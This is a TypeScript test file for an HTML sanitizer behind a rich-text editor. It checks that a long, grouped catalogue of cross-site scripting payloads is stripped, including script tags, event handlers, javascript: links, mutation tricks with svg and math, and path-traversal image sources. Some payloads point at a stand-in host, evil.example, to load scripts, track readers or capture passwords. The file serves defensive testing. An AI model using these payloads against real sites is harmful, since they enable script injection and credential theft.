import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanHtml, isEmpty } from './clean.ts'

const image = '/admin/attach/download?attach_id=123456789012345678'
const html = (written: string): string => cleanHtml(written).html

/** The only tags there may be; taken away, nothing is left that begins or ends one. */
const allowed =
  /<\/?(?:p|h[1-3]|ul|ol|li|blockquote|strong|em|u|s)>|<br>|<\/a>|<a href="(?:https?:\/\/|mailto:)[^"'<>\s]+" rel="noopener noreferrer" target="_blank">|<img src="(?:\/admin\/attach\/download\?attach_id=\d+|\/file\/oss\/download\/[0-9a-f]{32}\.[a-z]+)" alt="[^"'<>]*">/g
const markupLeft = (once: string): RegExpExecArray | null => /[<>]/.exec(once.replace(allowed, ''))

const hostile: Readonly<Record<string, readonly string[]>> = {
  'scripts, in every spelling': [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<script\n>alert(1)</script\t>',
    '<script/x>alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<script>/*</script><script>*/alert(1)//</script>',
    '<p><script>alert(1)</script',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '\ufeff<script>alert(1)</script>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<script type=importmap>{}</script><script type=module src=//evil.example/x.js>',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    `<img src="${image}" onerror="alert(1)">`,
    `<img/onerror=alert(1)/src="${image}">`,
    '<p onclick=alert(1)>x</p>',
    '<p/onmouseover="alert(1)">x',
    '<body onload=alert(1)>',
    '<a href="https://x.example" onfocus=alert(1) autofocus>x</a>',
    '<p \u000conclick=alert(1)>x</p>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    `<img src="${image}" alt='x' onerror='alert("1")'>`,
    '<p "onclick=alert(1)">x</p>',
    '<p a="1"onclick="alert(1)">x</p>',
    '<p onpointerrawupdate=alert(1) onanimationend=alert(1) style="animation:x">x</p>',
    '<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>y</button>',
    '<input onfocus=alert(1) autofocus>',
    '<custom-element onclick=alert(1) is=x>x</custom-element>',
    '<p __proto__=x constructor=y onclick=alert(1)>x</p>',
  ],
  'addresses that run': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/admin/user/remove">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    '<a href="https://user:secret@evil.example/">x</a>',
    '<a href="https://x.example/\u202egpj.exe">x</a>',
    '<a href="javas\u0000cript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="https:javascript:alert(1)">x</a>',
    '<a href="view-source:https://x.example">x</a>',
    '<a href="https://x.example" ping="https://evil.example" target=_self download>x</a>',
  ],
  'pictures from elsewhere': [
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/track.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="https://evil.example/x 1x">',
    '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">',
    '<table background="https://evil.example/x"><td background="https://evil.example/y">x</table>',
    '<body background="https://evil.example/x">x</body>',
    `<img src="${image}&x=1">`,
    `<img src="${image}#https://evil.example">`,
    '<img src="/admin/attach/download?attach_id=1/../../x">',
    '<img src="/file/oss/download/../../../etc/passwd">',
    '<img src="/auth/token/logout">',
    `<img src="https://evil.example${image}">`,
    '<picture><source srcset="//evil.example/x"><img src=x></picture>',
  ],
  'frames, objects, forms, documents': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="//evil.example">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;" sandbox="allow-scripts">',
    '<dialog open>x</dialog><slot name=x></slot>',
    '<applet code=x></applet><frameset><frame src=x></frameset>',
    '<video src=x onerror=alert(1)></video><audio autoplay src=x>',
    '<portal src="https://evil.example"></portal>',
    '<html><head><title>x</title></head><body>x</body></html>',
  ],
  styles: [
    '<style>@import "https://evil.example/x.css"</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0;background:red">x</p>',
    '<div class="tw-modal" id="root">x</div>',
    '<a id=location name=location href="https://evil.example">x</a><form name=cookie><input name=domain></form>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#a)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="background-image:url(https://evil.example/track)">x</p>',
  ],
  'foreign content and what changes meaning when it is read again': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    '<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>',
    '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
    '<svg><image href="https://evil.example/x"/><feImage href="https://evil.example/y"/></svg>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)></style></desc></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<table><td><form><math><p><form><img src=x onerror=alert(1)>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  ],
  'comments, instructions and what is cut off': [
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<?xml version="1.0"?><?php echo 1 ?>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!DOCTYPE html [<!ENTITY x "y">]>',
    '<img src="x" onerror="alert(1)',
    '<a href="https://x.example" title="><img src=x onerror=alert(1)>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '</p/><img/src=x/onerror=alert(1)>',
    '<%<img src=x onerror=alert(1)>%>',
  ],
  'text that looks like markup': [
    '&lt;img src=x onerror=alert(1)&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&amp;lt;script&amp;gt;',
    `<img src="${image}" alt="&quot; onerror=&quot;alert(1)">`,
    `<img src="${image}" alt="&#34;&#62;&#60;script&#62;">`,
    '<a href="https://x.example/?a=%22onclick=alert(1)&quot; onclick=&quot;alert(1)">x</a>',
    '<a href="https://x.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  ],
}

describe('nothing that could run, load or lead away stays', () => {
  for (const [what, texts] of Object.entries(hostile)) {
    test.each(texts)(`${what}: %s`, (written) => {
      const once = html(written)
      expect(markupLeft(once)).toBeNull()
      expect(html(once)).toBe(once)
    })
  }
})

test('what the editor writes stays as it is', () => {
  for (const written of [
    '<p>一段 <strong>粗</strong><em>斜</em><u>线</u><s>删</s></p>',
    '<h1>一</h1><h2>二</h2><h3>三</h3>',
    '<ul><li><p>甲</p></li><li><p>乙</p><ol><li><p>丙</p></li></ol></li></ul>',
    '<blockquote><p>引用</p></blockquote><p>一行<br>两行</p>',
    `<img src="${image}" alt="图">`,
    '<p><a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a></p>',
    '<p>1 &lt; 2 &amp; 3 &gt; 2</p>',
  ])
    expect(html(written)).toBe(written)
})

test('other names of the same become ours, and what is open is closed where browsers close it', () => {
  expect(html('<b>a</b><i>b</i><del>c</del>')).toBe('<strong>a</strong><em>b</em><s>c</s>')
  expect(html('<p>a<p>b')).toBe('<p>a</p><p>b</p>')
  expect(html('<p><strong>a</p>b</strong>')).toBe('<p><strong>a</strong></p>b')
  expect(html('a < b')).toBe('a &lt; b')
})

test('pictures are found by their own addresses, each once', () => {
  const other = '/file/oss/download/0123456789abcdef0123456789abcdef.png'
  const { images } = cleanHtml(
    `<img src="${image}"><img src='${other}'><img src=${image}><img src="https://x.example">`,
  )
  expect(images).toEqual([image, other])
})

test('an empty paragraph is empty, a picture is not', () => {
  for (const written of [
    '',
    '<p></p>',
    '<p><br></p>',
    '<p>&nbsp;\u200b</p>',
    '<script>x</script>',
    '<ul><li></li></ul>',
  ])
    expect(isEmpty(cleanHtml(written))).toBe(true)
  for (const written of ['<p>.</p>', `<img src="${image}">`]) expect(isEmpty(cleanHtml(written))).toBe(false)
})

const pieces = fc.constantFrom(
  ...Object.values(hostile).flat(),
  ...'< > " \' & = / ! - </p> <p> <a href= <img src= --> <script> </script> <svg> &lt; &#60; x'.split(' '),
  ' ',
)
test('any mixture of such pieces comes out harmless, and cleaning twice is cleaning once', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 12 }), (parts) => {
      const once = html(parts.join(''))
      expect(markupLeft(once)).toBeNull()
      expect(html(once)).toBe(once)
    }),
    { numRuns: 2000 },
  )
})

test('deep and long input ends', () => {
  for (const written of ['<p>', '<blockquote>', '<', '<!--', '<a href="', '&', '<script>', '</', '<p a'])
    expect(markupLeft(html(written.repeat(20_000)))).toBeNull()
})
